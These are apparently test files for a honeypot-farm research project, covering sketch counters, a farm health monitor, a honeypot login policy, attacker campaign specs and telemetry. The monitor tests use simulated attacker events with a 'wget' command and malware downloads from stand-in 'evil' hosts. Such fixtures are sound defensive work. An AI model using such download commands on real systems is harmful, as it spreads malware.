        # one: a few full-row collisions out of 500 keys are within spec
        # (expected miss rate <= delta ~ 1.8%).  Never an underestimate.
        c = CountMinSketch(SEED, "c", width=2048, depth=4)
        stream = [f"key{i % 500}" for i in range(20_000)]
        c.add_many(stream)
        true = Counter(stream)
        slack = c.error_bound()
        misses = 0
        for key, count in true.items():
            est = c.estimate(key)
            assert est >= count
            if est > count + slack:
                misses += 1
        assert misses / len(true) <= 2 * c.delta

    def test_incompatible_merge_raises(self):
        with pytest.raises(ValueError):
            build_cms([], width=32).merge(build_cms([], width=64))

    def test_width_depth_validated(self):
        with pytest.raises(ValueError):
            CountMinSketch(SEED, "c", width=0)
        with pytest.raises(ValueError):
            CountMinSketch(SEED, "c", depth=0)

    def test_copy_is_independent(self):
        original = build_cms([1, 2, 3])
        clone = original.copy()
        assert clone == original
        clone.add(4)
        assert clone != original
        assert original.estimate(4) == 0


class TestSpaceSaving:
    @given(a=key_lists)
    def test_counts_are_lower_bounds(self, a):
        s = build_ss(a)
        true = Counter(a)
        for key, count in s.counts.items():
            assert count <= true[key]

    @given(a=key_lists)
    def test_error_envelope_covers_every_key(self, a):
        s = build_ss(a)
        true = Counter(a)
        for key, count in true.items():
            lower, upper = s.estimate(key)
            assert lower <= count <= upper
        assert s.n == len(a)

    @given(a=key_lists)
    def test_heavy_hitters_always_present(self, a):
        s = build_ss(a)
        for key, count in Counter(a).items():
            if count > s.error():
                assert key in s.counts

    @given(a=key_lists)
    def test_capacity_respected_and_error_bounded(self, a):
        s = build_ss(a)
        assert len(s.counts) <= s.capacity
        assert s.error() <= s.n // (s.capacity + 1)

    @given(a=key_lists, b=key_lists)
    def test_merge_commutative(self, a, b):
        assert build_ss(a).merge(build_ss(b)) == build_ss(b).merge(build_ss(a))

    @given(a=key_lists, b=key_lists)
    def test_merge_preserves_envelope(self, a, b):
        merged = build_ss(a).merge(build_ss(b))
        true = Counter(a + b)
        for key, count in true.items():
            lower, upper = merged.estimate(key)
            assert lower <= count <= upper
        assert merged.n == len(a) + len(b)

    @given(a=key_lists, b=key_lists, c=key_lists)
    @settings(max_examples=50)
    def test_merge_associative_without_truncation(self, a, b, c):
        # Capacity covers the whole key universe -> no reduction fires
        # and the fold is exactly associative (and equals the union).
        big = 1000
        left = build_ss(a, big).merge(build_ss(b, big)).merge(build_ss(c, big))
        right = build_ss(a, big).merge(build_ss(b, big).merge(build_ss(c, big)))
        assert left == right == build_ss(a + b + c, big)
        assert left.error() == 0

    @given(a=key_lists)
    def test_top_order_is_total(self, a):
        s = build_ss(a)
        table = s.top()
        assert table == sorted(table, key=lambda row: (-row[1], row[0]))
        assert all(upper - lower == s.error() for _, lower, upper in table)

    def test_truncation_example(self):
        s = SpaceSaving(2, "s")
        s.add_many(["a", "a", "a", "b", "b", "c"])
        assert len(s.counts) <= 2
        lower, upper = s.estimate("a")
        assert lower <= 3 <= upper
        assert s.top(1)[0][0] == "a"

    def test_capacity_validated(self):
        with pytest.raises(ValueError):
            SpaceSaving(0)

    def test_nonpositive_adds_ignored(self):
        s = SpaceSaving(4)
        s.add("a", 0)
        s.add("a", -3)
        assert s.n == 0
        assert s.counts == {}

    def test_copy_is_independent(self):
        original = build_ss(["a", "b"])
        clone = original.copy()
        assert clone == original
        clone.add("c")
        assert clone != original
        assert "c" not in original.counts

    def test_eq_other_types_is_false(self):
        assert build_ss(["a"]) != "a"
        assert build_hll([1]) != 1
        assert build_cms([1]) != object()
        assert ExactCounter() != {}


class TestExactCounter:
    @given(a=key_lists)
    def test_exactly_counts(self, a):
        e = ExactCounter()
        for key in a:
            e.add(key)
        assert dict(e.items()) == dict(Counter(a))
        assert e.total == len(a)

    @given(a=key_lists, b=key_lists)
    def test_merge_commutative_and_exact(self, a, b):
        ab = ExactCounter()
        for key in a + b:
            ab.add(key)
        left = ExactCounter()
        for key in a:
            left.add(key)
        right = ExactCounter()
        for key in b:
            right.add(key)
        assert left.copy().merge(right) == right.copy().merge(left) == ab

    @given(a=key_lists, b=key_lists, c=key_lists)
    @settings(max_examples=50)
    def test_merge_associative(self, a, b, c):
        def build(values):
            e = ExactCounter()
            for key in values:
                e.add(key)
            return e

        left = build(a).merge(build(b)).merge(build(c))
        right = build(a).merge(build(b).merge(build(c)))
        assert left == right

    @given(a=key_lists)
    def test_empty_merge_is_identity(self, a):
        e = ExactCounter()
        for key in a:
            e.add(key)
        assert e.copy().merge(ExactCounter()) == e

    def test_items_sorted_by_key(self):
        e = ExactCounter()
        for key in (5, 1, 3, 1):
            e.add(key)
        assert e.items() == [(1, 2), (3, 1), (5, 1)]

    def test_get_defaults_to_zero(self):
        e = ExactCounter()
        e.add("x", 2)
        assert e.get("x") == 2
        assert e.get("missing") == 0
