"""Tests for the live farm-health monitor (``repro.farm.health``).

Covers liveness tracking (down + recovery), EWMA drift baselines
(session-rate and category-mix z-score alarms), fresh-hash notifications
through ``core.notify.FreshHashNotice``, the bulk-path block intake, and
the end-to-end demo scenario behind ``python -m repro monitor``.
"""

from __future__ import annotations

import pytest

from repro.farm.health import (
    CATEGORIES,
    Alert,
    FarmHealthMonitor,
    HealthConfig,
    _Ewma,
)
from repro.obs import use_metrics


def _connect(ts, sensor, session, ip=0x01010101):
    return {"seq": 0, "wall": 0.0, "kind": "honeypot.session.connect",
            "trace_id": f"session:{session}", "ts": ts,
            "data": {"sensor": sensor, "session": session, "src_ip": ip}}


def _closed(ts, sensor, session):
    return {"seq": 0, "wall": 0.0, "kind": "honeypot.session.closed",
            "trace_id": f"session:{session}", "ts": ts,
            "data": {"sensor": sensor, "session": session,
                     "reason": "client-disconnect"}}


def _event(kind, ts, sensor, session, **data):
    return {"seq": 0, "wall": 0.0, "kind": kind,
            "trace_id": f"session:{session}", "ts": ts,
            "data": {"sensor": sensor, "session": session, **data}}


class TestEwma:
    def test_first_sample_sets_mean(self):
        e = _Ewma(0.3)
        e.update(10.0)
        assert e.mean == 10.0
        assert e.n == 1

    def test_zscore_undefined_until_variance(self):
        e = _Ewma(0.3)
        assert e.zscore(5.0) is None
        e.update(10.0)
        assert e.zscore(10.0) is None  # variance still zero

    def test_outlier_scores_high(self):
        e = _Ewma(0.3)
        for x in (10.0, 11.0, 9.0, 10.0, 11.0, 9.0):
            e.update(x)
        assert abs(e.zscore(10.0)) < 1.5
        assert e.zscore(100.0) > 10.0


class TestLiveness:
    def _monitor(self, **kw):
        kw.setdefault("liveness_timeout", 100.0)
        kw.setdefault("interval", 50.0)
        return FarmHealthMonitor(HealthConfig(**kw))

    def test_silent_pot_goes_down(self):
        with use_metrics():
            m = self._monitor()
            m.feed(_connect(0.0, "hp-a", "s1"))
            m.feed(_connect(10.0, "hp-b", "s2"))
            for t in range(1, 6):
                m.feed(_connect(10.0 + 50.0 * t, "hp-a", f"sa{t}"))
            m.advance(300.0)
        assert m.pots_down() == ["hp-b"]
        downs = [a for a in m.alerts if a.kind == "liveness-down"]
        assert len(downs) == 1 and downs[0].honeypot_id == "hp-b"

    def test_watched_but_never_seen_pot_goes_down(self):
        with use_metrics():
            m = self._monitor()
            m.watch(["hp-ghost"])
            m.feed(_connect(0.0, "hp-a", "s1"))
            m.advance(500.0)
        assert "hp-ghost" in m.pots_down()

    def test_recovery_raises_and_marks_up(self):
        with use_metrics():
            m = self._monitor()
            m.feed(_connect(0.0, "hp-a", "s1"))
            m.feed(_connect(0.0, "hp-b", "s2"))
            m.feed(_connect(150.0, "hp-a", "s3"))
            m.advance(200.0)
            assert m.pots_down() == ["hp-b"]
            m.feed(_connect(250.0, "hp-b", "s4"))
        assert m.pots_down() == []
        assert any(a.kind == "liveness-recovered" and a.honeypot_id == "hp-b"
                   for a in m.alerts)

    def test_status_labels(self):
        with use_metrics():
            m = self._monitor()
            m.watch(["hp-quiet"])
            m.feed(_connect(0.0, "hp-a", "s1"))
            pot = m.pots["hp-a"]
            assert pot.status(10.0, 100.0) == "OK"
            assert pot.status(80.0, 100.0) == "QUIET"
            assert m.pots["hp-quiet"].status(10.0, 100.0) == "SILENT"


class TestRateDrift:
    def test_burst_after_warmup_alarms(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(
                interval=10.0, warmup_intervals=3, z_threshold=3.0,
                liveness_timeout=1e9))
            n = 0
            # Steady 2-3 sessions per 10s interval for 20 intervals.
            for i in range(20):
                for k in range(2 + (i % 2)):
                    n += 1
                    m.feed(_connect(i * 10.0 + k * 3.0, "hp-a", f"s{n}"))
            # Burst: 40 connects inside one interval.
            for k in range(40):
                n += 1
                m.feed(_connect(200.0 + k * 0.2, "hp-a", f"s{n}"))
            m.advance(220.0)
        alerts = [a for a in m.alerts if a.kind == "rate-drift"]
        assert alerts, "burst did not raise a rate-drift alert"
        assert alerts[-1].data["z"] > 3.0

    def test_no_alarm_during_warmup(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(
                interval=10.0, warmup_intervals=50, liveness_timeout=1e9))
            n = 0
            for i in range(10):
                for k in range(2 + 20 * (i == 8)):  # burst in interval 8
                    n += 1
                    m.feed(_connect(i * 10.0 + k * 0.3, "hp-a", f"s{n}"))
            m.advance(120.0)
        assert not [a for a in m.alerts if a.kind == "rate-drift"]

    def test_interval_histogram_is_capped(self):
        with use_metrics() as metrics:
            m = FarmHealthMonitor(HealthConfig(
                interval=10.0, histogram_cap=8, liveness_timeout=1e9))
            for i in range(40):
                m.feed(_connect(i * 10.0, "hp-a", f"s{i}"))
            m.advance(500.0)
            hist = metrics.histograms["farm.sessions_per_interval"]
        assert hist.cap == 8
        assert len(hist.values) <= 8
        assert hist.count >= 40  # exact count survives the reservoir


class TestMixDrift:
    def test_category_flip_alarms(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(
                interval=10.0, warmup_intervals=3, z_threshold=3.0,
                liveness_timeout=1e9))
            n = 0
            # 15 intervals of pure NO_CRED traffic (connect+close, no auth),
            # with mild rate variation so variance is nonzero.
            for i in range(15):
                for k in range(3 + (i % 2)):
                    n += 1
                    sid = f"s{n}"
                    t = i * 10.0 + k * 2.0
                    m.feed(_connect(t, "hp-a", sid))
                    m.feed(_closed(t + 1.0, "hp-a", sid))
            # Then an interval of successful-login CMD sessions.
            for k in range(4):
                n += 1
                sid = f"s{n}"
                t = 150.0 + k * 2.0
                m.feed(_connect(t, "hp-a", sid))
                m.feed(_event("honeypot.login.success", t + 0.5, "hp-a", sid,
                              username="root", password="x"))
                m.feed(_event("honeypot.command.input", t + 1.0, "hp-a", sid,
                              input="uname"))
                m.feed(_closed(t + 2.0, "hp-a", sid))
            m.advance(170.0)
        mix = [a for a in m.alerts if a.kind == "mix-drift"]
        assert {a.data["category"] for a in mix} >= {"CMD"}

    def test_session_categorisation_matches_taxonomy(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(interval=1e9,
                                               liveness_timeout=1e9))
            # NO_CRED: connect + close.
            m.feed(_connect(0.0, "hp", "a"))
            m.feed(_closed(1.0, "hp", "a"))
            # FAIL_LOG: failed attempt only.
            m.feed(_connect(2.0, "hp", "b"))
            m.feed(_event("honeypot.login.failed", 3.0, "hp", "b"))
            m.feed(_closed(4.0, "hp", "b"))
            # NO_CMD: success, no commands.
            m.feed(_connect(5.0, "hp", "c"))
            m.feed(_event("honeypot.login.success", 6.0, "hp", "c"))
            m.feed(_closed(7.0, "hp", "c"))
            # CMD_URI: success + command + download.
            m.feed(_connect(8.0, "hp", "d"))
            m.feed(_event("honeypot.login.success", 9.0, "hp", "d"))
            m.feed(_event("honeypot.command.input", 10.0, "hp", "d",
                          input="wget http://x/y"))
            m.feed(_event("honeypot.session.file_download", 11.0, "hp", "d",
                          url="http://x/y", shasum="ab" * 32))
            m.feed(_closed(12.0, "hp", "d"))
            assert m._interval_mix["NO_CRED"] == 1
            assert m._interval_mix["FAIL_LOG"] == 1
            assert m._interval_mix["NO_CMD"] == 1
            assert m._interval_mix["CMD_URI"] == 1
            assert m._interval_mix["CMD"] == 0


class TestFreshHashes:
    def test_first_sighting_notifies_second_does_not(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9))
            sha = "cd" * 32
            m.feed(_connect(0.0, "hp-a", "s1", ip=0x0A0B0C0D))
            m.feed(_event("honeypot.session.file_download", 1.0, "hp-a", "s1",
                          url="http://evil/x.sh", shasum=sha))
            m.feed(_event("honeypot.session.file_download", 2.0, "hp-a", "s1",
                          url="http://evil/x.sh", shasum=sha))
        assert len(m.notices) == 1
        notice = m.notices[0]
        assert notice.sha256 == sha
        assert notice.honeypot_id == "hp-a"
        assert notice.client_ip == 0x0A0B0C0D
        assert notice.uri == "http://evil/x.sh"
        assert notice.severity == "high"
        rendered = notice.render()
        assert sha in rendered and "10.11.12.13" in rendered
        assert [a.kind for a in m.alerts] == ["fresh-hash"]

    def test_known_hashes_never_alert(self):
        sha = "ef" * 32
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9),
                                  known_hashes=[sha])
            m.feed(_event("honeypot.session.file_created", 1.0, "hp-a", "s1",
                          path="/tmp/x", shasum=sha))
        assert m.notices == []
        assert m.pots["hp-a"].hashes == 1  # still counted per pot

    def test_tagged_hash_escalates_severity(self):
        class FakeTag:
            value = "mirai"

        class FakeIntel:
            def tag_of(self, sha):
                return FakeTag()

        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9),
                                  intel=FakeIntel())
            m.feed(_event("honeypot.session.file_download", 1.0, "hp-a", "s1",
                          url="http://evil/m.arm", shasum="aa" * 32))
        assert m.notices[0].tag == "mirai"
        assert m.notices[0].severity == "critical"


class TestBulkBlocks:
    def test_generator_blocks_count_into_rate_and_mix(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(interval=86400.0,
                                               liveness_timeout=1e18))
            m.feed({"seq": 0, "wall": 0.0, "kind": "generator.block",
                    "trace_id": "no_cred.d0", "ts": 0.0,
                    "data": {"category": "no_cred", "day": 0,
                             "sessions": 100}})
            m.feed({"seq": 1, "wall": 0.0, "kind": "generator.block",
                    "trace_id": "emit.c1.d0", "ts": 0.0,
                    "data": {"category": "emit.c1", "campaign": "c1",
                             "session_kind": "CMD_URI", "day": 0,
                             "sessions": 25}})
        assert m.sessions_seen == 125
        assert m._interval_mix["NO_CRED"] == 100
        assert m._interval_mix["CMD_URI"] == 25


class TestHoneypotEventIntake:
    def test_on_event_consumes_live_objects(self):
        from repro.honeypot.events import EventType, HoneypotEvent

        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9))
            m.on_event(HoneypotEvent(
                event_type=EventType.SESSION_CONNECT, timestamp=1.0,
                session_id="s1", honeypot_id="hp-x",
                data={"src_ip": 1, "src_port": 2, "dst_port": 22,
                      "protocol": "ssh"}))
            m.on_event(HoneypotEvent(
                event_type=EventType.SESSION_CLOSED, timestamp=2.0,
                session_id="s1", honeypot_id="hp-x",
                data={"reason": "client-disconnect", "duration": 1.0}))
        assert m.pots["hp-x"].sessions == 1
        assert m.pots["hp-x"].live == 0
        assert m.sessions_seen == 1

    def test_live_farm_event_tap_feeds_monitor(self, demo_farm_events):
        # Shared recorded LiveFarm run (see conftest): 18 sessions over
        # 3 pots, with intrusion wgets dropping never-seen hashes.
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9))
            for event in demo_farm_events:
                m.on_event(event)
        assert m.sessions_seen == 18
        assert len(m.pots) == 3
        assert m.notices, "intrusion downloads should raise fresh-hash"

    def test_recorded_trace_feed_matches_event_objects(self, demo_farm_events,
                                                       recorded_trace):
        # Feeding the dict-shaped flight-recorder form of the same run
        # must land in the same monitor state as the live objects.
        with use_metrics():
            a = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9))
            for event in demo_farm_events:
                a.on_event(event)
            b = FarmHealthMonitor(HealthConfig(liveness_timeout=1e9))
            assert b.feed_many(recorded_trace) == len(demo_farm_events)
        assert b.sessions_seen == a.sessions_seen
        assert b.events_seen == a.events_seen
        assert sorted(b.pots) == sorted(a.pots)
        assert {n.sha256 for n in b.notices} == {n.sha256 for n in a.notices}


class TestRenderTable:
    def test_table_mentions_pots_and_alerts(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=100.0,
                                               interval=50.0))
            m.feed(_connect(0.0, "hp-a", "s1"))
            m.feed(_connect(0.0, "hp-b", "s2"))
            m.feed(_connect(300.0, "hp-a", "s3"))
            m.advance(300.0)
            text = m.render_table()
        assert "hp-a" in text and "hp-b" in text
        assert "DOWN" in text
        assert "LIVENESS-DOWN" in text
        assert "2 pots" in text
        assert "3 sessions" in text

    def test_overflow_keeps_flagged_rows(self):
        with use_metrics():
            m = FarmHealthMonitor(HealthConfig(liveness_timeout=100.0,
                                               interval=50.0))
            for i in range(10):
                m.feed(_connect(0.0, f"hp-{i:02d}", f"s{i}"))
            m.feed(_connect(300.0, "hp-00", "slate"))
            m.advance(300.0)
            text = m.render_table(max_pots=3)
        # Every downed pot survives the cut even with max_pots=3.
        for i in range(1, 10):
            assert f"hp-{i:02d}" in text

    def test_alert_render_shape(self):
        alert = Alert(kind="rate-drift", time=120.0, honeypot_id=None,
                      message="spike", data={"z": 9.0})
        text = alert.render()
        assert "RATE-DRIFT" in text and "120.0s" in text


class TestMonitorCli:
    def test_demo_reports_fresh_hash_alert(self, capsys):
        from repro.__main__ import main

        with use_metrics():
            status = main(["monitor", "--duration", "1500",
                           "--pots", "4", "--seed", "7"])
        out = capsys.readouterr().out
        assert status == 0
        assert "FRESH-HASH" in out
        assert "Fresh file hash observed" in out
        assert "farm health" in out

    def test_tail_validates_jsonl(self, tmp_path, capsys):
        from repro.__main__ import main
        from repro.obs import write_trace_jsonl
        from repro.obs.trace import Tracer

        t = Tracer()
        t.emit("honeypot.session.connect", trace_id="session:s1",
               sim_time=1.0, sensor="hp-a", session="s1", src_ip=5)
        t.emit("honeypot.session.closed", trace_id="session:s1",
               sim_time=2.0, sensor="hp-a", session="s1")
        path = tmp_path / "t.jsonl"
        write_trace_jsonl(t.to_list(), str(path))
        with use_metrics():
            status = main(["monitor", "--input", str(path), "--validate"])
        captured = capsys.readouterr()
        assert status == 0
        assert "hp-a" in captured.out
        assert "trace valid: 2 events" in captured.err

    def test_tail_rejects_broken_trace(self, tmp_path, capsys):
        from repro.__main__ import main

        path = tmp_path / "bad.jsonl"
        path.write_text('{"wall": 0.0, "kind": "x", "seq": 5}\n'
                        '{"wall": 0.0, "kind": "y", "seq": 5}\n')
        with use_metrics():
            status = main(["monitor", "--input", str(path), "--validate"])
        assert status == 1
        assert "INVALID" in capsys.readouterr().err

    def test_prometheus_export_from_monitor(self, tmp_path, capsys):
        from repro.__main__ import main

        prom = tmp_path / "metrics.prom"
        with use_metrics():
            status = main(["monitor", "--duration", "600", "--pots", "2",
                           "--prometheus", str(prom)])
        assert status == 0
        text = prom.read_text()
        assert "repro_farm_sessions_per_interval" in text
        capsys.readouterr()


def test_categories_cover_the_paper_taxonomy():
    assert CATEGORIES == ("NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI")
