"""Tests for the honeyfarm's authentication policy."""

from repro.honeypot.auth import AuthPolicy


class TestAuthPolicy:
    def setup_method(self):
        self.policy = AuthPolicy()

    def test_root_with_any_password_succeeds(self):
        assert self.policy.check_password("root", "hunter2").success
        assert self.policy.check_password("root", "1234").success
        assert self.policy.check_password("root", "admin").success

    def test_root_root_rejected(self):
        # The one password the deployment rejects.
        result = self.policy.check_password("root", "root")
        assert not result.success
        assert result.reason == "rejected-password"

    def test_non_root_usernames_rejected(self):
        for username in ("admin", "user", "nproc", "pi", "ubuntu"):
            result = self.policy.check_password(username, "password")
            assert not result.success
            assert result.reason == "bad-username"

    def test_empty_password_rejected(self):
        assert not self.policy.check_password("root", "").success

    def test_publickey_never_accepted(self):
        result = self.policy.check_publickey("root", "SHA256:abcdef")
        assert not result.success
        assert result.reason == "publickey-unsupported"

    def test_result_carries_credentials(self):
        result = self.policy.check_password("root", "secret")
        assert result.username == "root"
        assert result.password == "secret"

    def test_custom_policy(self):
        policy = AuthPolicy(required_username="admin", rejected_password="admin")
        assert policy.check_password("admin", "x").success
        assert not policy.check_password("admin", "admin").success
        assert not policy.check_password("root", "x").success

    def test_max_attempts_default(self):
        assert self.policy.max_attempts == 3
