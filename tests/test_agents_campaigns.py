"""Tests for campaign specifications."""

from collections import Counter

from repro.agents.campaigns import CampaignSpec, marquee_campaigns, midtail_campaigns
from repro.agents.scripts import ScriptKind
from repro.intel.tags import ThreatTag
from repro.simulation.clock import OBSERVATION_DAYS
from repro.simulation.rng import RngStream


class TestMarquee:
    def setup_method(self):
        self.specs = {s.campaign_id: s for s in marquee_campaigns()}

    def test_h1_dominates(self):
        h1 = self.specs["H1"]
        assert h1.sessions == 25_688_228
        assert h1.n_clients == 118_924
        assert h1.n_active_days == 484
        assert h1.n_honeypots == 0  # all pots
        assert h1.tag is ThreatTag.TROJAN
        assert h1.kind is ScriptKind.KEY_INJECT

    def test_h1_20x_next(self):
        by_sessions = sorted(self.specs.values(), key=lambda s: -s.sessions)
        assert by_sessions[0].sessions > 20 * by_sessions[1].sessions

    def test_h2_three_clients(self):
        h2 = self.specs["H2"]
        assert h2.n_clients == 3
        assert h2.intermittent

    def test_top20_tag_mix(self):
        # Paper: top-20 by sessions = 6 mirai, 5 malicious, 4 trojan,
        # 3 unknown, 2 miners.
        top20 = sorted(self.specs.values(), key=lambda s: -s.sessions)[:20]
        counts = Counter(s.tag for s in top20)
        assert counts[ThreatTag.MIRAI] == 6
        assert counts[ThreatTag.MALICIOUS] == 5
        assert counts[ThreatTag.TROJAN] == 4
        assert counts[ThreatTag.UNKNOWN] == 3
        assert counts[ThreatTag.MINER] == 2

    def test_mirai_family_pinned(self):
        family = [s for s in self.specs.values() if s.pot_group == "mirai77"]
        assert len(family) >= 8
        for spec in family:
            assert 75 <= spec.n_honeypots <= 77
            assert spec.password == "1234"
            assert spec.client_pool == "mirai-fam"
            assert spec.tag is ThreatTag.MIRAI

    def test_miners(self):
        assert self.specs["H11"].n_clients == 1
        assert self.specs["H11"].n_active_days == 31
        assert self.specs["H12"].n_clients == 200
        assert self.specs["H12"].n_active_days == 12

    def test_dropper_ssh_share_matches_cmd_uri(self):
        # CMD+URI sessions are 62.45% SSH in Table 1.
        droppers = [s for s in self.specs.values() if s.kind is ScriptKind.DROPPER]
        assert all(abs(s.ssh_share - 0.62) < 0.01 for s in droppers)

    def test_campaigns_fit_window(self):
        for spec in self.specs.values():
            assert 0 <= spec.start_day < OBSERVATION_DAYS
            assert spec.n_active_days >= 1

    def test_table6_top_days(self):
        # H1 is the longest-lived campaign (Table 6).
        by_days = sorted(self.specs.values(), key=lambda s: -s.n_active_days)
        assert by_days[0].campaign_id == "H1"

    def test_span_days(self):
        continuous = CampaignSpec("x", ThreatTag.MIRAI, ScriptKind.DROPPER,
                                  100, 10, 0, 20, 5)
        assert continuous.span_days == 20
        gappy = CampaignSpec("y", ThreatTag.MIRAI, ScriptKind.DROPPER,
                             100, 10, 0, 20, 5, intermittent=True)
        assert gappy.span_days > 20


class TestMidtail:
    def setup_method(self):
        self.specs = midtail_campaigns(400, RngStream(3, "midtail"))

    def test_count(self):
        assert len(self.specs) == 400

    def test_unique_ids(self):
        assert len({s.campaign_id for s in self.specs}) == 400

    def test_majority_single_day(self):
        single = sum(1 for s in self.specs if s.n_active_days == 1)
        assert 0.4 < single / len(self.specs) < 0.7

    def test_mirai_short_lived(self):
        mirai_days = [s.n_active_days for s in self.specs if s.tag is ThreatTag.MIRAI]
        assert mirai_days
        assert max(mirai_days) <= 45

    def test_trojans_can_linger(self):
        trojan_days = [s.n_active_days for s in self.specs if s.tag is ThreatTag.TROJAN]
        assert max(trojan_days) > 45

    def test_fit_window(self):
        for spec in self.specs:
            assert 0 <= spec.start_day
            assert spec.start_day + spec.n_active_days <= OBSERVATION_DAYS + 1
            assert 1 <= spec.n_honeypots <= 221

    def test_sessions_at_least_days(self):
        assert all(s.sessions >= s.n_active_days for s in self.specs)

    def test_intel_coverage_low(self):
        covered = sum(1 for s in self.specs if s.in_intel_db)
        assert covered / len(self.specs) < 0.12

    def test_deterministic(self):
        again = midtail_campaigns(400, RngStream(3, "midtail"))
        assert [s.sessions for s in again] == [s.sessions for s in self.specs]
