"""Unit tests for per-task resource telemetry (``repro.obs.resources``)."""

from __future__ import annotations

import gc

from repro.obs.resources import (
    HEARTBEAT_FIELDS,
    TELEMETRY_FIELDS,
    TELEMETRY_VERSION,
    ResourceSampler,
    current_rss_kb,
    peak_rss_kb,
    validate_heartbeat,
    worker_heartbeat,
)


class TestRssProbes:
    def test_peak_rss_positive(self):
        assert peak_rss_kb() > 0

    def test_current_rss_is_same_order_as_peak(self):
        current = current_rss_kb()
        assert current > 0
        # statm RSS and ru_maxrss use different kernel accounting; they
        # only agree to within a few percent, so just pin the order of
        # magnitude.
        assert current < peak_rss_kb() * 2


class TestResourceSampler:
    def test_reports_every_declared_field(self):
        with ResourceSampler() as sampler:
            sum(range(10_000))
        out = sampler.to_dict()
        assert out["telemetry_version"] == TELEMETRY_VERSION
        for field in TELEMETRY_FIELDS:
            assert field in out, field
        assert out["wall_seconds"] > 0.0
        assert out["cpu_seconds"] == \
            out["cpu_user_seconds"] + out["cpu_system_seconds"]
        assert out["max_rss_kb"] > 0

    def test_counts_gc_collections_inside_window(self):
        with ResourceSampler() as sampler:
            for _ in range(3):
                gc.collect()
        assert sampler.gc_collections >= 3
        assert sampler.gc_pause_seconds >= 0.0

    def test_gc_outside_window_not_counted(self):
        with ResourceSampler() as sampler:
            pass
        inside = sampler.gc_collections
        gc.collect()
        assert sampler.gc_collections == inside

    def test_gc_callback_removed_on_exit(self):
        before = len(gc.callbacks)
        with ResourceSampler():
            assert len(gc.callbacks) == before + 1
        assert len(gc.callbacks) == before

    def test_callback_removed_even_on_error(self):
        before = len(gc.callbacks)
        try:
            with ResourceSampler():
                raise RuntimeError("boom")
        except RuntimeError:
            pass
        assert len(gc.callbacks) == before

    def test_samplers_nest(self):
        with ResourceSampler() as outer:
            with ResourceSampler() as inner:
                gc.collect()
            gc.collect()
        assert inner.gc_collections >= 1
        assert outer.gc_collections >= 2

    def test_tracemalloc_opt_in(self):
        with ResourceSampler(trace_malloc=True) as sampler:
            blob = [bytearray(1 << 16) for _ in range(8)]
            del blob
        out = sampler.to_dict()
        assert out["tracemalloc_peak_kb"] > 0

    def test_tracemalloc_absent_by_default(self):
        with ResourceSampler() as sampler:
            pass
        assert "tracemalloc_peak_kb" not in sampler.to_dict()

    def test_payload_is_json_ready(self):
        import json

        with ResourceSampler() as sampler:
            pass
        payload = sampler.to_dict()
        assert json.loads(json.dumps(payload)) == payload


class TestWorkerHeartbeat:
    def test_payload_has_every_declared_field(self):
        beat = worker_heartbeat("pool-0", beat=3, state="run",
                               last_index=7, tasks_done=3, sessions_done=99)
        assert set(beat) == set(HEARTBEAT_FIELDS)
        assert beat["worker"] == "pool-0"
        assert beat["beat"] == 3
        assert beat["rss_kb"] > 0

    def test_valid_payload_validates_clean(self):
        beat = worker_heartbeat("w", beat=1)
        assert validate_heartbeat(beat) == []

    def test_missing_field_detected(self):
        beat = worker_heartbeat("w", beat=1)
        del beat["rss_kb"]
        problems = validate_heartbeat(beat)
        assert any("rss_kb" in p for p in problems)

    def test_bad_types_detected(self):
        beat = worker_heartbeat("w", beat=1)
        beat["beat"] = "one"
        beat["worker"] = 5
        problems = validate_heartbeat(beat)
        assert any("'beat'" in p for p in problems)
        assert any("'worker'" in p for p in problems)

    def test_non_dict_rejected(self):
        assert validate_heartbeat(["not", "a", "dict"]) \
            == ["heartbeat is not an object"]
