"""Tests for whole-dataset persistence."""

import numpy as np
import pytest

from repro.workload.io import load_dataset, save_dataset


class TestDatasetRoundtrip:
    @pytest.fixture(scope="class")
    def reloaded(self, small_dataset, tmp_path_factory):
        directory = tmp_path_factory.mktemp("dataset")
        save_dataset(small_dataset, directory)
        return load_dataset(directory)

    def test_store_preserved(self, small_dataset, reloaded):
        assert len(reloaded.store) == len(small_dataset.store)
        assert np.array_equal(reloaded.store.client_ip,
                              small_dataset.store.client_ip)

    def test_config_preserved(self, small_dataset, reloaded):
        assert reloaded.config.seed == small_dataset.config.seed
        assert reloaded.config.scale == small_dataset.config.scale

    def test_deployment_preserved(self, small_dataset, reloaded):
        assert reloaded.deployment.n_honeypots == 221
        assert reloaded.deployment.countries == small_dataset.deployment.countries
        original = small_dataset.deployment.sites[0]
        loaded = reloaded.deployment.sites[0]
        assert (loaded.honeypot_id, loaded.ip, loaded.country, loaded.asn) == \
            (original.honeypot_id, original.ip, original.country, original.asn)

    def test_campaigns_preserved(self, small_dataset, reloaded):
        h1_original = small_dataset.campaign("H1")
        h1_loaded = reloaded.campaign("H1")
        assert h1_loaded is not None
        assert h1_loaded.primary_hash == h1_original.primary_hash
        assert h1_loaded.honeypot_indices == h1_original.honeypot_indices

    def test_intel_preserved(self, small_dataset, reloaded):
        h1 = small_dataset.campaign("H1")
        entry = reloaded.intel.lookup(h1.primary_hash)
        assert entry is not None
        assert entry.tag.value == "trojan"
        assert len(reloaded.intel) == len(small_dataset.intel)

    def test_envelopes_preserved(self, small_dataset, reloaded):
        for cat, env in small_dataset.envelopes.items():
            assert np.allclose(reloaded.envelopes[cat], env)

    def test_analyses_run_on_reloaded(self, reloaded):
        from repro.core.report import full_report
        report = full_report(reloaded)
        assert report["table4"][0].hash_label == "H1"
