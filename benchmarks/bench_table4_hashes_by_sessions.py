"""Table 4: top-20 hashes sorted by number of sessions."""

from common import echo, heading

from repro.core.hashes import top_hash_table


def test_table4(benchmark, store, dataset, hash_stats, campaign_labels):
    rows = benchmark.pedantic(
